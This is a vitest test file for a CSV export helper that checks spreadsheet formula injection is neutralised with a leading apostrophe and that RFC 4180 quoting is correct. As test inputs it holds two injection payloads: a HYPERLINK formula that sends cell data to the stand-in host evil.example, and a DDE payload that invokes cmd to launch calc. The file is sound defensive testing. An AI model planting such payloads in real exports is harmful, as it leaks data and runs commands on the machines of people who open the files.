import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, csvText } from './csv.ts';

describe('csvCell', () => {
  it('neutralises text a spreadsheet would run as a formula with a leading apostrophe (OWASP), then quotes it as RFC 4180 requires', () => {
    // The two payloads of issue 23, as side names.
    expect(csvCell('=HYPERLINK("https://evil.example/?"&A1,"Click")')).toBe('"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"');
    expect(csvCell("@SUM(1+1)*cmd|' /C calc'!A0")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(['=1+1', '+1+1', '-1+1', '@A1', '\t=1', '\r=1'].map(csvCell)).toEqual(["'=1+1", "'+1+1", "'-1+1", "'@A1", "'\t=1", '"\'\r=1"']);
    // Text that only looks like a number is text from the data: neutralised too.
    expect(csvCell('-12.5')).toBe("'-12.5");
  });

  it('writes other text as it is, quoting commas, quotes and line breaks', () => {
    expect(['Islamic State', 'a, b', 'say "no"', 'two\nlines', '', "it's", ' =1'].map(csvCell)).toEqual(['Islamic State', '"a, b"', '"say ""no"""', '"two\nlines"', '', "it's", ' =1']);
  });

  it('writes finite numbers as numbers, negative ones too; NaN and infinities as text', () => {
    expect([0, 12.5, -12.5, 1e-7, -1e21, -0].map(csvCell)).toEqual(['0', '12.5', '-12.5', '1e-7', '-1e+21', '0']);
    expect([NaN, Infinity, -Infinity].map(csvCell)).toEqual(['NaN', 'Infinity', "'-Infinity"]);
  });
});

describe('csvLine and csvText', () => {
  it('join cells with commas and end every line with CRLF', () => {
    expect(csvLine(['2017-07-15', '=x', 4.5])).toBe("2017-07-15,'=x,4.5");
    expect(csvText([['a', 'b'], ['+c', -1]])).toBe("a,b\r\n'+c,-1\r\n");
  });
});
